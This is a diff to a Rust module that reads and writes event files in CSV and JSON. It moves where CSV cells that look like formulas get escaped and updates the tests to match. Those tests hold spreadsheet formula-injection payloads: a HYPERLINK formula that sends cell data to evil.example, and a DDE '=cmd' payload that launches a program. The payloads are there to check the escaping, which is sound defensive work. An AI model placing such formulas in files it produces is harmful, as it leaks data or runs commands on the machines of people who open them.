@@ -99,7 +99,8 @@ impl EventsFile {
 
     /// Builds a file from sheet rows (the first row is the header), as `sheet pull` saves them.
     /// Columns without a header name are dropped; rows with an empty id are kept in CSV and left
-    /// out of JSON (an object needs a key).
+    /// out of JSON (an object needs a key). In CSV every cell (from someone's sheet) is written
+    /// by `cells`; JSON values are the sheet's.
     ///
     /// # Errors
     /// [`FileError`] when the header has no `id` or `title`, or an id is used twice.
@@ -107,6 +108,7 @@ impl EventsFile {
         path: &Path,
         format: Format,
         grid: &[Vec<String>],
+        cells: CsvCells,
     ) -> Result<EventsFile, FileError> {
         let header: Vec<String> = grid.first().cloned().unwrap_or_default();
         let width = header
@@ -141,8 +143,9 @@ impl EventsFile {
         }
         let mut file = EventsFile::scan(path, Source::Bytes(path, out.as_bytes()), Format::Csv)?;
         file.bom = false;
-        if format == Format::Json {
-            file.convert_to_json_object();
+        match format {
+            Format::Json => file.convert_to_json_object(),
+            Format::Csv => file.apply_to_csv_cells(cells),
         }
         Ok(file)
     }
@@ -154,8 +157,15 @@ impl EventsFile {
 
     /// Sets the answers into the output columns, by id. A cell that already holds text is kept
     /// unless `overwrite`. CSV files without some output columns get them appended to the header;
-    /// JSON entries without an output field get it appended.
-    pub fn merge(&mut self, answers: &[(RowId, Generated)], overwrite: bool) -> MergeReport {
+    /// JSON entries without an output field get it appended. In a CSV file an answer is written by
+    /// `cells` (escaped when it looks like a formula, or raw); every other cell stays as the file
+    /// had it, and JSON values are never changed.
+    pub fn merge(
+        &mut self,
+        answers: &[(RowId, Generated)],
+        overwrite: bool,
+        cells: CsvCells,
+    ) -> MergeReport {
         let mut report = MergeReport::default();
         let index: std::collections::HashMap<&str, usize> =
             self.rows.iter().map(|r| (r.id.as_str(), r.index)).collect();
@@ -184,7 +194,7 @@ impl EventsFile {
                 if !overwrite && !current.trim().is_empty() {
                     continue;
                 }
-                self.set(i, HEADERS[k], value);
+                self.set(i, HEADERS[k], value, cells);
                 self.rows[i].outputs[k] = (*value).to_owned();
                 written += 1;
             }
@@ -198,18 +208,29 @@ impl EventsFile {
         report
     }
 
-    fn set(&mut self, index: usize, field: &str, value: &str) {
+    fn set(&mut self, index: usize, field: &str, value: &str, cells: CsvCells) {
         match &mut self.body {
             Body::Csv { headers, records } => {
                 if let Some(col) = headers
                     .iter()
                     .position(|h| h.trim().eq_ignore_ascii_case(field))
                 {
-                    records[index][col] = value.to_owned();
+                    records[index][col] = cells.apply(value).into_owned();
                 }
             }
             Body::JsonObject(entries) => set_field(&mut entries[index].1, field, value),
             Body::JsonArray(entries) => set_field(&mut entries[index], field, value),
+        }
+    }
+
+    /// Writes every cell of a CSV body, the header's too, by `cells`.
+    fn apply_to_csv_cells(&mut self, cells: CsvCells) {
+        if let Body::Csv { headers, records } = &mut self.body {
+            for cell in headers.iter_mut().chain(records.iter_mut().flatten()) {
+                if let std::borrow::Cow::Owned(escaped) = cells.apply(cell) {
+                    *cell = escaped;
+                }
+            }
         }
     }
 
@@ -237,10 +258,9 @@ impl EventsFile {
         }
     }
 
-    /// The file's text in its format: CSV with `\n` line ends, every cell (the header's too)
-    /// written by `cells` (a formula-like cell escaped, or raw); JSON indented by two spaces,
-    /// entries and fields in their original order, non-ASCII text as is (`cells` does not apply).
-    pub fn render(&self, cells: CsvCells) -> String {
+    /// The file's text in its format: CSV with `\n` line ends; JSON indented by two spaces, entries
+    /// and fields in their original order, non-ASCII text as is.
+    pub fn render(&self) -> String {
         match &self.body {
             Body::Csv { headers, records } => {
                 let mut out = String::new();
@@ -252,9 +272,9 @@ impl EventsFile {
                         .terminator(csv::Terminator::Any(b'\n'))
                         .from_writer(string_sink(&mut out));
                     // Writing to a String cannot fail.
-                    let _ = w.write_record(headers.iter().map(|c| cells.apply(c).into_owned()));
+                    let _ = w.write_record(headers);
                     for r in records {
-                        let _ = w.write_record(r.iter().map(|c| cells.apply(c).into_owned()));
+                        let _ = w.write_record(r);
                     }
                     let _ = w.flush();
                 }
@@ -283,13 +303,13 @@ impl EventsFile {
         }
     }
 
-    /// Writes [`EventsFile::render`] (CSV cells by `cells`) to `path` atomically: a temporary
-    /// file in the same folder, flushed to disk, then renamed over `path`.
+    /// Writes [`EventsFile::render`] to `path` atomically: a temporary file in the same folder,
+    /// flushed to disk, then renamed over `path`.
     ///
     /// # Errors
     /// [`FileError`] when the folder is not writable or the disk is full; `path` is then untouched.
-    pub fn write_atomic(&self, path: &Path, cells: CsvCells) -> Result<(), FileError> {
-        write_atomic(path, self.render(cells).as_bytes())
+    pub fn write_atomic(&self, path: &Path) -> Result<(), FileError> {
+        write_atomic(path, self.render().as_bytes())
     }
 }
 
@@ -365,47 +385,72 @@ mod tests {
         );
         let mut file = EventsFile::read(&path).unwrap();
         assert_eq!(file.rows()[1].line, 3);
-        let report = file.merge(&[answer("1"), answer("2")], false);
+        let report = file.merge(&[answer("1"), answer("2")], false, CsvCells::Escaped);
         assert_eq!(report.rows_written, 2);
         assert_eq!(
-            file.render(CsvCells::Escaped),
+            file.render(),
             "id,title,year,note,content_simple,content_detailed,related_movies\n1,One,1945,keep me,s 1,\"d, with \"\"quotes\"\"\",m\n2,Two,1999,x,s 2,\"d, with \"\"quotes\"\"\",m\n"
         );
     }
 
     #[test]
-    fn formula_like_cells_of_a_csv_output_are_escaped_unless_raw_and_json_is_unchanged() {
-        let (_d, path) = write("a.csv", b"id,title,note\n1,One,=1+1\n2,Two,x\n");
-        let mut file = EventsFile::read(&path).unwrap();
-        let mut evil = answer("1");
-        evil.1.simple = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
-        evil.1.year = "-500".into();
-        file.merge(&[evil.clone(), answer("2")], true);
-        let escaped = file.render(CsvCells::Escaped);
+    fn formula_like_answers_merged_into_a_csv_are_escaped_unless_raw_and_the_files_cells_kept() {
+        let evil = || {
+            let mut evil = answer("1");
+            evil.1.simple = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
+            evil.1.year = "-500".into();
+            evil
+        };
+        let read = || {
+            let (dir, path) = write("a.csv", b"id,title,note\n1,-50 degrees,=1+1\n2,Two,x\n");
+            (dir, EventsFile::read(&path).unwrap())
+        };
+        let (_d, mut file) = read();
+        file.merge(&[evil(), answer("2")], true, CsvCells::Escaped);
+        let escaped = file.render();
         let mut lines = escaped.lines().skip(1);
         assert_eq!(
             lines.next().unwrap(),
-            "1,One,'=1+1,'-500,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",\"d, with \"\"quotes\"\"\",m"
+            "1,-50 degrees,=1+1,'-500,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",\"d, with \"\"quotes\"\"\",m",
+            "the answers escaped, the file's own cells as they were"
         );
         assert_eq!(
             lines.next().unwrap(),
             "2,Two,x,1945,s 2,\"d, with \"\"quotes\"\"\",m"
         );
-        let raw = file.render(CsvCells::Raw);
-        assert!(raw.contains("1,One,=1+1,-500,\"=HYPERLINK("), "{raw}");
+        let (_d, mut file) = read();
+        file.merge(&[evil()], true, CsvCells::Raw);
+        assert!(
+            file.render()
+                .contains("1,-50 degrees,=1+1,-500,\"=HYPERLINK("),
+            "{}",
+            file.render()
+        );
 
         let (_d, path) = write("a.json", b"[{\"id\": \"1\", \"title\": \"=One\"}]");
         let mut file = EventsFile::read(&path).unwrap();
-        file.merge(&[evil], true);
-        assert_eq!(
-            file.render(CsvCells::Escaped),
-            file.render(CsvCells::Raw),
-            "JSON is unchanged"
-        );
-        assert!(
-            file.render(CsvCells::Escaped)
-                .contains("\"title\": \"=One\"")
-        );
+        file.merge(&[evil()], true, CsvCells::Escaped);
+        let json: Value = serde_json::from_str(&file.render()).unwrap();
+        assert_eq!(json[0]["year"], "-500", "JSON is unchanged");
+        assert_eq!(json[0]["content_simple"], evil().1.simple);
+    }
+
+    #[test]
+    fn a_sheet_saved_as_csv_has_every_formula_like_cell_escaped_unless_raw() {
+        let grid: Vec<Vec<String>> = [["id", "title"], ["-1", "=cmd|' /C calc'!A0"]]
+            .iter()
+            .map(|r| r.iter().map(|c| (*c).to_owned()).collect())
+            .collect();
+        let dir = tempfile::tempdir().unwrap();
+        let csv = dir.path().join("s.csv");
+        let file = EventsFile::from_grid(&csv, Format::Csv, &grid, CsvCells::Escaped).unwrap();
+        assert_eq!(file.render(), "id,title\n'-1,'=cmd|' /C calc'!A0\n");
+        let file = EventsFile::from_grid(&csv, Format::Csv, &grid, CsvCells::Raw).unwrap();
+        assert_eq!(file.render(), "id,title\n-1,=cmd|' /C calc'!A0\n");
+        let json = dir.path().join("s.json");
+        let file = EventsFile::from_grid(&json, Format::Json, &grid, CsvCells::Escaped).unwrap();
+        let doc: Value = serde_json::from_str(&file.render()).unwrap();
+        assert_eq!(doc["-1"]["title"], "=cmd|' /C calc'!A0");
     }
 
     #[test]
@@ -416,8 +461,8 @@ mod tests {
         );
         let mut file = EventsFile::read(&path).unwrap();
         assert_eq!(file.rows()[1].line, 3);
-        file.merge(&[answer("b")], false);
-        let out = file.render(CsvCells::Escaped);
+        file.merge(&[answer("b")], false, CsvCells::Escaped);
+        let out = file.render();
         assert!(
             out.find("\"b\"").unwrap() < out.find("\"a\"").unwrap(),
             "{out}"
@@ -434,8 +479,8 @@ mod tests {
             b"[{\"id\": \"x\", \"title\": \"X\", \"extra\": 3}, {\"id\": \"y\", \"title\": \"Y\"}]",
         );
         let mut file = EventsFile::read(&path).unwrap();
-        file.merge(&[answer("y")], false);
-        let back: Value = serde_json::from_str(&file.render(CsvCells::Escaped)).unwrap();
+        file.merge(&[answer("y")], false, CsvCells::Escaped);
+        let back: Value = serde_json::from_str(&file.render()).unwrap();
         assert_eq!(
             back[0],
             serde_json::json!({"id": "x", "title": "X", "extra": 3})
@@ -445,11 +490,8 @@ mod tests {
         let (_d, path) = write("b.csv", "\u{feff}id,title\n1,가\n".as_bytes());
         let mut file = EventsFile::read(&path).unwrap();
         assert_eq!(file.rows()[0].id, "1");
-        file.merge(&[answer("1")], false);
-        assert!(
-            file.render(CsvCells::Escaped)
-                .starts_with("\u{feff}id,title,year,")
-        );
+        file.merge(&[answer("1")], false, CsvCells::Escaped);
+        assert!(file.render().starts_with("\u{feff}id,title,year,"));
     }
 
     #[test]
